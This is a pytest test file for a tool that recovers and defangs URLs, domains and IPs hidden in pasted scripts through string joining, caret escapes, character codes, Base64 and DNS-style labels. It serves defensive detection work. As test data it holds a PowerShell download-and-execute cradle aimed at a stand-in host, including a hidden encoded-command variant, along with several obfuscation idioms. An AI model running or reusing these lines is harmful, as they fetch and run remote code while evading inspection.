from __future__ import annotations

from base64 import b64encode

import pytest

from app.pipeline import extract
from app.pipeline.rewriting import defang_stream
from app.pipeline.undoing import undo
from tests.pipeline.found import found

URL = "http://bad-shop.com/a"
CODES = ",".join(str(ord(c)) for c in URL)
BASE64 = b64encode(URL.encode()).decode()
SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
WIDE = b64encode(SCRIPT.encode("utf-16-le")).decode()
LONG = b64encode(f"{'#' * 100}\nGET {URL}\nHost: 10.9.8.7\n".encode()).decode()


@pytest.mark.parametrize(
    "pasted",
    [
        "$u='h'+'ttp://bad-'+'shop.com/a'",
        'u = "http://bad-" + "shop.com/a";',
        'u = "http://bad-" +\n      "shop.com/a";',
        '=HYPERLINK("http://bad-"&"shop.com/a")',
        'u = "http://bad-" & _\r\n    "shop.com/a"',
        "$u = 'http://bad-' . 'shop.com/a';",
        "select 'http://bad-'||'shop.com/a'",
        r"{\"u\": \"http://bad-\" + \"shop.com/a\"}",
        'u = "http://bad-"; u += "shop.com/a";',
        'u = "http://bad-"\nu = u & "shop.com/a"',
        "$u = 'http://bad-'; $u .= 'shop.com/a';",
        "const u = `http://bad-` + `shop.com/a`",
    ],
)
def test_strings_that_a_program_joins_are_joined(pasted: str) -> None:
    (evidence,) = extract(pasted).found
    assert (evidence.ioc.value, evidence.rule) == (URL, "strings that a program joins")
    assert evidence.defanged
    assert evidence.ioc.raw_match == pasted[evidence.offset : evidence.end]


@pytest.mark.parametrize(
    "pasted",
    [
        'x = "http://bad-" + y + "shop.com/a"',
        "$u = $bad + 'shop.com/a'",
        "u = f(x) + 'shop.com'",
        "u = hosts[1]+'shop.com'",
        'u = "http://bad-"; v += "shop.com/a";',
        "$u = $bad.'shop.com/a';",
        'u = bad & "shop.com/a"',
        "x = bad + 'ann@shop.com'.slice(2) + y + '9.8.7.6'",
        "ping bad^shop.org^x",
    ],
)
def test_half_of_a_name_is_not_told_if_the_other_half_is_unknown(pasted: str) -> None:
    assert "url http://shop.com/a" not in found(pasted)
    assert "domain shop.com" not in found(pasted) or "@" in pasted
    assert "ipv4 9.8.7.6" not in found(pasted)
    assert "email ann@shop.com" not in found(pasted)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('["a-shop.com", "b-shop.com"]', ["domain a-shop.com", "domain b-shop.com"]),
        ("'a-shop.com' 'b-shop.com'", ["domain a-shop.com", "domain b-shop.com"]),
        ('log("to " + host + " b-shop.com")', ["domain b-shop.com"]),
        ('u = "http://a-shop.com/" + path', ["url http://a-shop.com/"]),
        ('u = base + "http://a-shop.com/x"', ["url http://a-shop.com/x"]),
        ('u = x + ".a-shop.com"', ["domain a-shop.com"]),
        ('u = proto + "www.a-shop.com"', ["domain www.a-shop.com"]),
        ('Google+ "a-shop.com" in C++ "b-shop.com"', ["domain a-shop.com", "domain b-shop.com"]),
        ('He said "see a-shop.com." "And b-shop.com"', ["domain a-shop.com", "domain b-shop.com"]),
        ('a=1&"a-shop.com"', ["domain a-shop.com"]),
    ],
)
def test_whole_names_in_strings_are_told(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("cmd /c h^t^t^p://b^ad-shop.com/a", [f"url {URL}"]),
        ("http://bad^-shop.com/a", [f"url {URL}"]),
        ("curl http://bad-shop.com/a?b=1^&c=2", [f"url {URL}?b=1&c=2"]),
        ("ping b^ad-sh^op.com", ["domain bad-shop.com"]),
        ("y = b^ad-shop.com", []),
        ("^bad-shop.com$", ["domain bad-shop.com"]),
        ("x^2 + [^a-z] ^ a", []),
    ],
)
def test_carets_are_undone_in_command_lines(text: str, expected: list[str]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "pasted",
    [
        f"eval(String.fromCharCode({CODES}))",
        f"String.fromCharCode({', '.join(hex(ord(c)) for c in URL)})",
        f"-join [char[]]({CODES})",
        f"bytes([{CODES}]).decode()",
        "+".join(f"[char]{ord(c)}" for c in URL),
        "+".join(f"[cHaR]0x{ord(c):02x}" for c in URL),
        " & ".join(f"Chr({ord(c)})" for c in URL),
        " & ".join(f"ChrW(&H{ord(c):X})" for c in URL),
        ".".join(f"chr({ord(c)})" for c in URL),
        "=" + "&".join(f"CHAR({ord(c)})" for c in URL),
        'Chr(104) & "ttp://bad" & Chr(45) & "shop.com/" & Chr(97)',
    ],
)
def test_character_codes_are_undone(pasted: str) -> None:
    (evidence,) = extract(pasted).found
    assert (evidence.ioc.value, evidence.rule) == (URL, "character codes in program text")
    assert evidence.defanged


@pytest.mark.parametrize(
    "pasted",
    [
        f"atob('{BASE64}')",
        f'[Convert]::FromBase64String("{BASE64}")',
        f"echo {BASE64} | base64 -d",
        f"token={BASE64.rstrip('=')}; x",
        f"/srv/{BASE64}",
        f"powershell -w hidden -enc {WIDE}",
        f"powershell -EncodedCommand {WIDE}",
        f"$x = '{b64encode(BASE64.encode()).decode()}'",
        f"x = '{URL.encode().hex()}'",
        "atob('aHR0cDovLw==') + 'bad-shop.com/a'",
    ],
)
def test_encoded_text_is_decoded(pasted: str) -> None:
    (evidence,) = extract(pasted).found
    assert (evidence.ioc.value, evidence.rule) == (URL, "text in Base64 or in hexadecimal digits")
    assert evidence.defanged
    assert evidence.ioc.raw_match == pasted[evidence.offset : evidence.end]
    assert "".join(defang_stream([pasted])).replace("[.]", ".") == pasted


def test_base64_over_several_lines_is_read_as_one() -> None:
    lines = "\n".join(LONG[i : i + 76] for i in range(0, len(LONG), 76))
    assert found(f"Content:\n\n{lines}\n\nend") == [f"url {URL}", "ipv4 10.9.8.7"]


@pytest.mark.parametrize(
    "text",
    [
        b64encode(bytes(range(256))).decode(),
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "thisIsALongNameInProgramTextAndNoBase64AtAll",
        "/usr/lib/x86/abcdefghijklmnopqrstuvwxyzabcdefgh",
        f"https://a-shop.com/?u={BASE64}",
        "f(1, 2, 3, 4, 5) and [80, 443, 8080, 22, 53]",
    ],
)
def test_other_long_words_and_lists_give_nothing(text: str) -> None:
    assert [ioc for ioc in found(text) if not ioc.startswith("url https://a-shop.com/")] == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A (3)www(8)bad-shop(3)com(0)", ["domain www.bad-shop.com"]),
        ("UDP Snd NOERROR] A (8)bad-shop(3)com(0)", ["domain bad-shop.com"]),
        ('content:"|08|bad-shop|03|com|00|";', ["domain bad-shop.com"]),
        ('content:"|03|www|08|bad-shop|03|com"', ["domain www.bad-shop.com"]),
        (r"b'\x03www\x08bad-shop\x03com\x00'", ["domain www.bad-shop.com"]),
        ("A (3)www(7)bad-shop(3)com(0)", []),
        ("(1)a(2)bc(0)", []),
        ("f(1)a(3)com(0)b", ["domain a.com"]),
        ("|01|02|03|com|", []),
    ],
)
def test_labels_after_their_lengths_are_a_name(text: str, expected: list[str]) -> None:
    assert found(text) == expected


def test_the_rule_of_labels_is_named() -> None:
    (evidence,) = extract("A (8)bad-shop(3)com(0)").found
    assert evidence.rule == "labels after their lengths, as in DNS packets"


@pytest.mark.parametrize(
    ("script", "plain"),
    [
        ('x = "http://bad-" & _\r\n "shop.com/a"', 'x = "http://bad-shop.com/a"'),
        ('x = Chr(104) & "ttp"', 'x = http"'),
        ("eval('\\x68\\u0074tp')", "eval('http')"),
        ("y = x + 'a.com'", "y = x + 'a.com'"),
        ("plain text, 1 + 2", "plain text, 1 + 2"),
    ],
)
def test_a_reader_can_undo_a_script(script: str, plain: str) -> None:
    assert undo(script) == plain
